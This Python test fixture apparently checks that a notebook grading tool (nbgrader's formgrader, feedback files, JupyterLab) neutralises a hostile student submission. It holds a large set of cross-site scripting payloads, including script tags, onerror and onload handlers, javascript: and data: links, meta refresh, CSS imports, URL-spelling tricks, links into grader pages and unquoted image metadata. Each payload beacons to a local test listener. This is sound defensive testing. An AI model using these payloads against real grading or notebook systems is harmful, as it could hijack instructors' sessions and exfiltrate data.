"""Ivo's notebook 6 is correct, and everything he wrote or printed tries to run script where a
person looks at it: in the formgrader, where the instructor grades his written answer by hand,
in his feedback file, and in JupyterLab. Every payload beacons to 127.0.0.1:47613 (the browser
test listens there); none may ever reach it.

His written answer ``why_not_tile_32`` keeps a real answer among the payloads (the hand grader
must still read it); a markdown cell of his own, a raw cell, and a code cell whose outputs are
HTML, JavaScript, SVG, markdown, a widget, a printed ``<script>`` and a traceback with HTML in
it; an SVG attachment with a script; a notebook title and widget state with script; and an
``.html`` and an ``.svg`` handed in beside the notebook. He scores what the solution scores
(the written answer is graded by hand); the grade table says what was removed from view.

Issue 36 widened him: his notebook declares a newer format (``nbformat_minor`` 99) and ends
with cells of types nbformat 4.5 does not know, whose fields nbconvert prints as they are (a
MathJax configuration block, a ``<meta http-equiv=refresh>``); his answer spells remote images
the ways a browser still resolves to another host (backslashes, tabs, character references),
links into the formgrader's other pages with script in the URL, into the Jupyter API and to
another host; his code displays images whose metadata nbconvert writes into the ``<img>`` tag
unquoted (``width``: ``1 id=why_not_tile_32``, an ``onerror``, ``filenames``) and an
``isolated`` HTML output.
"""

from urllib.parse import quote

BEACON = "http://127.0.0.1:47613"
HOST = BEACON.split("//", 1)[1]


def _fetch(name: str) -> str:
    return f"fetch('{BEACON}/{name}')"


def _in_url(name: str) -> str:
    """A formgrader URL part that is script, as it would be printed unescaped."""
    return quote(f'<img src=x onerror="{_fetch(name)}">', safe="")


ANSWER_TEXT = ("A 32x32 tile launches 1024 threads per block, so at most two blocks fit on an "
               "SM and one stalled barrier idles half of it; 16x16 keeps more blocks resident "
               "for a little less reuse.")

WRITTEN_ANSWER = f"""{ANSWER_TEXT}

$$\\text{{reuse}} = T, \\quad 16 < 32$$

| tile | blocks/SM |
|:-----|----------:|
| 16   | 6         |
| 32   | 2         |

![a figure](attachment:figure.svg)

<img src=x onerror="{_fetch('md-img-onerror')}">
<script>{_fetch('md-script')}</script>
<svg onload="{_fetch('md-svg-onload')}"></svg>
[a link](javascript:{_fetch('md-markdown-js-link')})
<a href="javascript:{_fetch('md-html-js-link')}">another link</a>
<iframe src="{BEACON}/md-iframe"></iframe>
<iframe srcdoc="<script>{_fetch('md-iframe-srcdoc')}</script>"></iframe>
<object data="{BEACON}/md-object"></object>
<embed src="{BEACON}/md-embed">
<meta http-equiv="refresh" content="0;url={BEACON}/md-meta-refresh">
<base href="{BEACON}/md-base/">
<img src="relative-after-base.png">
<form action="{BEACON}/md-form"><input name="q" autofocus onfocus="{_fetch('md-autofocus')}"><button>Send</button></form>
<style>@import url("{BEACON}/md-css-import"); body {{ background: url("{BEACON}/md-css-body"); }}</style>
<div style="background-image: url('{BEACON}/md-css-inline')">styled</div>
<link rel="stylesheet" href="{BEACON}/md-link-stylesheet">
<img src="{BEACON}/md-remote-image">
<details open ontoggle="{_fetch('md-details-ontoggle')}"><summary>more</summary>hidden</details>
<video><source onerror="{_fetch('md-video-source')}"></video>
<svg></p><style><a id="</style><img src=1 onerror={_fetch('md-mutation')}>">
<span data-link="{BEACON}/md-data-link" id="why_not_tile_32">a clobbering id</span>
<img src="\\\\{HOST}/md-backslashes">
<img src="/\\{HOST}/md-slash-backslash">
<img src="h&#x09;ttp://{HOST}/md-entity-tab">
<img src="&#x2F;&#x2F;{HOST}/md-entity-slashes">
<img src=" &#x0a;//{HOST}/md-newline-slashes">

![spelled](\\\\\\\\{HOST}/md-markdown-backslashes)
[students](../../manage_students/{_in_url('md-link-manage-students')})
[gradebook](../../gradebook/{_in_url('md-link-gradebook')}/{_in_url('md-link-gradebook-2')})
[submissions](../../manage_submissions/{_in_url('md-link-manage-submissions')})
[api](/api/contents/source/week4)
[climb](%2e%2e/%2e%2e/manage_students/{_in_url('md-link-encoded-dots')})
[remote]({BEACON}/md-remote-link)

<a href="\\\\{HOST}/md-backslash-link">backslash link</a>
[back to the answer](#why)
"""

SVG_WITH_SCRIPT = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_fetch("svg-onload")}">'
                   f'<script>{_fetch("svg-script")}</script><circle r="4"/></svg>')

#: the smallest PNG (a 1x1 pixel), displayed with hostile metadata
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5E"
       "rkJggg==")
MATHJAX_CONFIG = (f'<script type="text/x-mathjax-config">{_fetch("unknown-cell-mathjax-config")}'
                  f"</script>")
META_REFRESH = f'<meta http-equiv="refresh" content="0;url={BEACON}/unknown-cell-refresh">'
FORMAT_MINOR = 99
FOREIGN_CELLS = {"06_tile_sweep": [
    # nbconvert's templates print an unknown cell's ``type`` as it is
    {"cell_type": "future", "id": "future-1", "metadata": {}, "source": MATHJAX_CONFIG,
     "type": MATHJAX_CONFIG},
    {"cell_type": "html", "id": "future-2", "metadata": {"tags": ['x" onclick="1']},
     "source": META_REFRESH, "type": META_REFRESH},
    {"cell_type": "markdown", "id": "future-3", "metadata": {}, "source": "ok",
     "x-extra": f"<img src=x onerror=\"{_fetch('unknown-field')}\">"},
]}

NOTEBOOKS = ["06_tile_sweep"]
BASE = "solutions"
ANSWERS = {"06_tile_sweep": {"why_not_tile_32": WRITTEN_ANSWER}}
ATTACH = {"06_tile_sweep": {"why_not_tile_32": {
    "figure.svg": {"image/svg+xml": SVG_WITH_SCRIPT.replace("svg-", "attachment-svg-")}}}}
INSERT = {"06_tile_sweep": [
    ("why_not_tile_32", "markdown",
     f'My own notes. <img src=x onerror="{_fetch("md-added-cell")}"> '
     f'<a href="data:text/html,<script>{_fetch("md-data-url")}</script>">data</a>'),
    ("why_not_tile_32", "raw", f"<script>{_fetch('raw-cell')}</script>"),
]}
_OUTPUTS = {
    "html": f'<img src=x onerror="{_fetch("out-html")}">',
    "javascript": _fetch("out-javascript"),
    "svg": SVG_WITH_SCRIPT.replace("svg-", "out-svg-"),
    "markdown": f'<img src=x onerror="{_fetch("out-markdown")}">',
    "bundle": f'<iframe srcdoc="<script>{_fetch("out-bundle")}</script>"></iframe>',
    "widget": f'<img src=x onerror="{_fetch("out-widget")}">',
    "stream": "<script>" + _fetch("out-stream") + "</script>",
    "traceback": f'<img src=x onerror="{_fetch("out-traceback")}">',
}
APPEND = {"06_tile_sweep": [f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
import ipywidgets

display(HTML({_OUTPUTS['html']!r}))
display(Javascript({_OUTPUTS['javascript']!r}))
display(SVG({_OUTPUTS['svg']!r}))
display(Markdown({_OUTPUTS['markdown']!r}))
display({{"text/html": {_OUTPUTS['bundle']!r}, "text/plain": "a bundle"}}, raw=True)
display(ipywidgets.HTML(value={_OUTPUTS['widget']!r}))
display({{"image/png": {PNG!r}}}, raw=True, metadata={{"image/png": {{
    "width": "1 id=why_not_tile_32", "height": "1 onerror=" + {_fetch('out-png-height')!r}}},
    "filenames": {{"image/png": "../../manage_students/" + {_in_url('out-png-filename')!r}}}}})
display({{"image/jpeg": {PNG!r}}}, raw=True, metadata={{
    "width": "1 onerror=" + {_fetch('out-jpeg-width')!r}, "unconfined": "x onload=1"}})
display({{"text/html": "<b>isolated</b>"}}, raw=True,
        metadata={{"text/html": {{"isolated": True}}}})
print({_OUTPUTS['stream']!r})
raise ValueError({_OUTPUTS['traceback']!r})
"""]}
NOTEBOOK_METADATA = {"06_tile_sweep": {
    "title": f"</title><script>{_fetch('metadata-title')}</script>",
    "widgets": {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {"w1": {
            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"value": f'<img src=x onerror="{_fetch("metadata-widget")}">'}}}}},
}}
BESIDE = {
    "notes.html": f"<script>{_fetch('file-html')}</script><img src=x onerror=\"{_fetch('file-html-img')}\">",
    "plot.svg": SVG_WITH_SCRIPT.replace("svg-", "file-svg-"),
}
EXPECTED = {"06_tile_sweep": 5}
EXPECTED_NOTES = {"06_tile_sweep": ["removed from view"]}
